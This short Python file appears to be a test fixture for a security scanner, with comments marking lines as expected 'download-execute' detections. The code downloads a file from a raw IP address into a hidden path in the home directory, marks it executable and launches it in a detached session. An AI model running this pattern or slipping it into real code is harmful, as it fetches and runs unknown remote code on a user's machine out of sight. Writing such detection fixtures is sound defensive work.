# ruff: noqa
# fmt: off
"""urlretrieve into the home directory, then run with subprocess."""
import os
import subprocess
import urllib.request

dest = os.path.expanduser("~/.local/bin/.sync")
urllib.request.urlretrieve("http://193.42.33.7/sync", dest)
os.chmod(dest, 0o755)  # expect: download-execute
subprocess.Popen([dest], start_new_session=True)  # expect: download-execute
